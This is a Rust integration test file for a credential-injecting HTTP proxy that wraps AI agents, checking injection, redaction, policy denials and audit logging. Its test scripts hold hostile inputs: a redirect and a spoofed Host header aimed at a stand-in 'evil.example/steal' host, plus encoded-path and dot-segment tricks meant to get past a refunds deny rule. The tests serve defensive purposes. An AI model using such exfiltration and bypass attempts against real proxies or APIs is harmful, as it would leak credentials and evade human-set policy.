//! The HTTP credential proxy end to end: an agent under `frona run` calls an HTTPS API (a local
//! server with its own test CA) through `FRONA_PROXY`; the credential is attached on the way
//! out and never reaches the agent, and nothing turns the proxy into a relay elsewhere.

use std::process::Output;

use crate::credentials::Dirs;
use crate::fake_http::{FakeServer, Response};
use crate::support::text;

const VALUE: &str = "sk_live_ProxyE2eValue0123456789abcd";

const POLICY: &str = r#"
rules:
  - name: no-refunds
    http: { path: "/v1/refunds*" }
    credentials: [stripe-key]
    effect: deny
    reason: refunds need a human
  - name: stripe-api
    http: { method: [GET, POST], host: localhost }
    credentials: [stripe-key]
    effect: permit
"#;

/// The fake API: echoes what it received (so a leak back would show), redirects, and serves
/// a large body with the credential in it.
fn api() -> (FakeServer, String) {
    FakeServer::start_tls(|request| match request.path() {
        "/v1/echo" => Response::json(
            200,
            serde_json::json!({
                "authorization": request.header("authorization"),
                "host": request.header("host"),
                "accept_encoding": request.header("accept-encoding"),
                "body_len": request.body.len(),
                "query": request.target.split_once('?').map(|(_, q)| q),
            }),
        ),
        "/v1/redirect-away" => {
            let mut r = Response::text(302, "");
            r.headers
                .push(("location".into(), "https://evil.example/steal".into()));
            r
        }
        "/v1/leaky-header" => {
            let mut r = Response::text(200, "ok");
            r.headers.push((
                "x-echo".into(),
                request.header("authorization").unwrap_or_default().into(),
            ));
            r
        }
        "/v1/big" => {
            // 4 MiB with the value around every 64 KiB boundary, where chunks split.
            let mut body = Vec::with_capacity(4 << 20);
            while body.len() < 4 << 20 {
                body.extend(std::iter::repeat_n(b'.', 65536 - 10));
                body.extend(VALUE.as_bytes());
            }
            Response::text(200, &String::from_utf8(body).unwrap())
        }
        _ => Response::text(404, "no such endpoint"),
    })
}

fn setup(name: &str, port: u16, ca: &str, inject: &str) -> Dirs {
    let dirs = Dirs::new(name);
    dirs.store("stripe", VALUE);
    let route = format!("stripe=https://localhost:{port}");
    let register = dirs
        .cmd(&[
            "credential",
            "register",
            "--name",
            "stripe-key",
            "--backend",
            "local",
            "--path",
            "stripe",
            "--route",
            &route,
            "--inject",
            inject,
        ])
        .output()
        .unwrap();
    assert!(register.status.success(), "{}", text(&register));
    std::fs::create_dir_all(dirs.root.join("config/policies")).unwrap();
    std::fs::write(dirs.root.join("config/policies/policy.yaml"), POLICY).unwrap();
    std::fs::write(dirs.root.join("ca.pem"), ca).unwrap();
    dirs
}

fn run_agent(dirs: &Dirs, script: &str) -> Output {
    dirs.cmd(&["run", "--quiet", "--", "sh", "-c", script])
        .env("FRONA_STATE_DIR", dirs.root.join("state"))
        .env("SSL_CERT_FILE", dirs.root.join("ca.pem"))
        .output()
        .unwrap()
}

const CURL: &str = r#"c() { curl -sS --unix-socket "$FRONA_PROXY" "$@"; echo; }"#;

#[test]
fn the_proxy_attaches_the_credential_and_the_agent_never_sees_it() {
    let (server, ca) = api();
    let dirs = setup("proxy", server.port, &ca, "bearer");
    let script = format!(
        "{CURL}
         echo agent-env=$(env | grep -c sk_live_)
         c -H 'Authorization: Bearer agent-chosen' -H 'Host: evil.example' -H 'Accept-Encoding: gzip' 'http://frona/stripe/v1/echo?x=1'
         c -o /dev/null -w 'delete=%{{http_code}}' -X DELETE http://frona/stripe/v1/echo
         c -o /dev/null -w 'refund=%{{http_code}}' http://frona/stripe/v1/refunds/re_1
         c -o /dev/null -w 'encoded=%{{http_code}}' http://frona/stripe/v1/%72efunds/re_1
         c -o /dev/null -w 'slash=%{{http_code}}' http://frona/stripe/v1%2frefunds
         c -o /dev/null -w 'dots=%{{http_code}}' --path-as-is http://frona/stripe/v1/x/../refunds
         c -o /dev/null -w 'unknown=%{{http_code}}' http://frona/github/user
         c -o /dev/null -w 'absolute=%{{http_code}}' --request-target https://evil.example/stripe/v1/echo http://frona/
         c -o /dev/null -w 'redirect=%{{http_code}} %{{redirect_url}}' http://frona/stripe/v1/redirect-away
         c -D - -o /dev/null http://frona/stripe/v1/leaky-header | grep -i x-echo
         curl -sS --unix-socket \"$FRONA_PROXY\" http://frona/stripe/v1/big | wc -c
         head -c 3000000 /dev/zero > upload.bin
         c -X POST --data-binary @upload.bin http://frona/stripe/v1/echo"
    );
    let output = run_agent(&dirs, &script);
    let out = text(&output);
    assert!(!out.contains(VALUE), "the value reached the agent:\n{out}");
    assert!(out.contains("agent-env=0"), "{out}");
    assert!(
        out.contains(r#""authorization":"[REDACTED]""#),
        "the injected header replaced the agent's, and its echo is redacted:\n{out}"
    );
    assert!(
        out.contains(&format!(r#""host":"localhost:{}""#, server.port)),
        "{out}"
    );
    assert!(out.contains(r#""accept_encoding":"identity""#), "{out}");
    assert!(out.contains(r#""query":"x=1""#), "{out}");
    for expected in [
        "delete=403",
        "refund=403",
        "encoded=403",
        "slash=400",
        "dots=400",
        "unknown=404",
        "absolute=400",
        "redirect=302 https://evil.example/steal",
        "x-echo: [REDACTED]",
        r#""body_len":3000000"#,
    ] {
        assert!(out.contains(expected), "{expected}:\n{out}");
    }
    // The large body arrives whole, with every copy of the value replaced.
    let big = (4usize << 20).div_ceil(65536 - 10 + VALUE.len());
    let expected_len = big * (65536 - 10) + big * "[REDACTED]".len();
    assert!(out.contains(&format!("\n{expected_len}\n")), "{out}");
    // Upstream saw the real credential, on every permitted call, and nothing else.
    let seen = server.requests();
    assert!(
        seen.iter()
            .all(|r| r.header("authorization") == Some(&format!("Bearer {VALUE}"))),
        "{seen:?}"
    );
    assert!(seen.iter().all(|r| !r.path().contains("refunds")));
    assert!(!seen.iter().any(|r| r.method == "DELETE"));
    let log = std::fs::read_to_string(dirs.root.join("state/audit.jsonl")).unwrap();
    assert!(!log.contains(VALUE));
    assert!(log.contains(r#""kind":"http-response""#) && log.contains(r#""status":200"#));
    assert!(log.contains(r#""path":"/v1/refunds/re_1""#), "{log}");
    let verify = dirs
        .cmd(&["audit", "verify"])
        .env("FRONA_STATE_DIR", dirs.root.join("state"))
        .output()
        .unwrap();
    assert!(verify.status.success(), "{}", text(&verify));
}

/// Query and basic injection put the value elsewhere on the wire; it is still redacted from
/// what comes back, and the agent cannot pre-set the injected parameter.
#[test]
fn query_and_basic_injection() {
    let (server, ca) = api();
    let dirs = setup("proxy-query", server.port, &ca, "query:api_key");
    let out = text(&run_agent(
        &dirs,
        &format!("{CURL}\nc 'http://frona/stripe/v1/echo?api_key=mine&a=b'"),
    ));
    assert!(!out.contains(VALUE), "{out}");
    assert!(out.contains(r#""query":"a=b&api_key=[REDACTED]""#), "{out}");
    let last = server.requests().pop().unwrap();
    assert_eq!(last.query("api_key").as_deref(), Some(VALUE));
    assert!(!last.target.contains("mine"));

    let dirs = setup("proxy-basic", server.port, &ca, "basic");
    let out = text(&run_agent(
        &dirs,
        &format!("{CURL}\nc http://frona/stripe/v1/echo"),
    ));
    assert!(out.contains(r#""authorization":"[REDACTED]""#), "{out}");
    let last = server.requests().pop().unwrap();
    use base64::Engine as _;
    let expected = base64::engine::general_purpose::STANDARD.encode(format!("{VALUE}:"));
    assert_eq!(
        last.header("authorization"),
        Some(format!("Basic {expected}").as_str())
    );
}

/// A process outside the agent's tree (here: the test itself, same user) is refused.
#[test]
fn only_the_agent_tree_may_use_the_proxy() {
    let (server, ca) = api();
    let dirs = setup("proxy-peer", server.port, &ca, "bearer");
    // The socket exists while frona runs: call it while the agent sleeps.
    let mut child = dirs
        .cmd(&[
            "run",
            "--quiet",
            "--",
            "sh",
            "-c",
            "echo $FRONA_PROXY; sleep 5",
        ])
        .env("FRONA_STATE_DIR", dirs.root.join("state"))
        .env("SSL_CERT_FILE", dirs.root.join("ca.pem"))
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.as_mut().unwrap()),
        &mut line,
    )
    .unwrap();
    let socket = line.trim();
    let outside = std::process::Command::new("curl")
        .args([
            "-sS",
            "--unix-socket",
            socket,
            "http://frona/stripe/v1/echo",
        ])
        .output()
        .unwrap();
    let _ = child.kill();
    let _ = child.wait();
    let body = text(&outside);
    assert!(
        body.contains("not part of the agent's process tree"),
        "{body}"
    );
    assert!(server.requests().is_empty(), "nothing was forwarded");
}

/// `frona call URL`: outside `frona run` frona applies the policy itself; inside, the request
/// goes through the agent's proxy. Same injection, redaction, refusals and exit codes.
#[test]
fn frona_call_inside_and_outside_a_run() {
    let (server, ca) = api();
    let dirs = setup("call", server.port, &ca, "bearer");
    let base = format!("https://localhost:{}", server.port);
    let call = |args: &[&str]| {
        dirs.cmd(&[&["call"], args].concat())
            .env("FRONA_STATE_DIR", dirs.root.join("state"))
            .env("SSL_CERT_FILE", dirs.root.join("ca.pem"))
            .output()
            .unwrap()
    };
    let ok = call(&["-i", &format!("{base}/v1/echo?q=1")]);
    let out = text(&ok);
    assert_eq!(ok.status.code(), Some(0), "{out}");
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    assert!(
        out.contains(r#""authorization":"[REDACTED]""#) && !out.contains(VALUE),
        "{out}"
    );
    let posted = call(&["-X", "POST", "-d", "hello", &format!("{base}/v1/echo")]);
    assert!(
        text(&posted).contains(r#""body_len":5"#),
        "{}",
        text(&posted)
    );
    let denied = call(&[&format!("{base}/v1/refunds/re_1")]);
    assert_eq!(denied.status.code(), Some(77), "{}", text(&denied));
    assert!(text(&denied).contains("refunds need a human"));
    let unknown = call(&["https://api.github.com/user"]);
    assert_eq!(unknown.status.code(), Some(125), "{}", text(&unknown));
    assert!(
        text(&unknown).contains("no credential has a route"),
        "{}",
        text(&unknown)
    );
    let missing = call(&[&format!("{base}/v1/nothing")]);
    assert_eq!(missing.status.code(), Some(1), "{}", text(&missing));

    let frona = crate::support::frona_bin();
    let inside = run_agent(
        &dirs,
        &format!(
            "{f} call --credential stripe-key {base}/v1/echo; echo rc=$?; {f} call {base}/v1/refunds/x; echo rc=$?",
            f = frona.display()
        ),
    );
    let out = text(&inside);
    assert!(
        out.contains(r#""authorization":"[REDACTED]""#) && !out.contains(VALUE),
        "{out}"
    );
    assert!(out.contains("rc=0") && out.contains("rc=77"), "{out}");
    assert_eq!(server.requests().len(), 4, "the denied calls never left");
}

/// When the upstream cannot be reached, the error names the host only: with query injection
/// the URL holds the value, and it must not come back in the error or go into the audit log.
#[test]
fn upstream_errors_do_not_carry_the_value() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let (_server, ca) = api();
    let dirs = setup("proxy-down", port, &ca, "query:api_key");
    let out = text(&run_agent(
        &dirs,
        &format!("{CURL}\nc -w 'status=%{{http_code}}' http://frona/stripe/v1/echo"),
    ));
    assert!(
        out.contains("status=502") && out.contains("upstream `localhost`"),
        "{out}"
    );
    assert!(!out.contains(VALUE), "{out}");
    let log = std::fs::read_to_string(dirs.root.join("state/audit.jsonl")).unwrap();
    assert!(log.contains(r#""kind":"http-response""#), "{log}");
    assert!(!log.contains(VALUE), "{log}");
}

/// `frona policy explain --http` decides a proxied call as the proxy would: percent-decoded
/// path, method and host matched by the `http:` rules of the shipped Stripe policy.
#[test]
fn policy_explain_decides_a_proxied_call() {
    let policies = concat!(env!("CARGO_MANIFEST_DIR"), "/../policies");
    let explain = |method: &str, url: &str| {
        let output = crate::support::frona()
            .args(["policy", "explain", "--json", "--policy", policies])
            .args(["--credential", "stripe-key", "--http", method, url])
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", text(&output));
        let value: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        let decision = &value["decision"];
        (
            decision["effect"].as_str().unwrap_or_default().to_owned(),
            decision["rule"].as_str().unwrap_or_default().to_owned(),
        )
    };
    assert_eq!(
        explain("GET", "https://api.stripe.com/v1/charges"),
        ("permit".into(), "stripe-proxy-read".into())
    );
    assert_eq!(
        explain("post", "https://api.stripe.com/v1/%72efunds"),
        ("ask".into(), "stripe-proxy-money-moves-ask".into()),
        "decoded as the proxy decodes it"
    );
    assert_eq!(
        explain("DELETE", "https://api.stripe.com/v1/charges").0,
        "deny"
    );
    let refused = crate::support::frona()
        .args([
            "policy",
            "explain",
            "--policy",
            policies,
            "--credential",
            "stripe-key",
        ])
        .args(["--http", "GET", "https://api.stripe.com/v1/%2e%2e/x"])
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(125), "{}", text(&refused));
    assert!(text(&refused).contains("dot segment"), "{}", text(&refused));
}
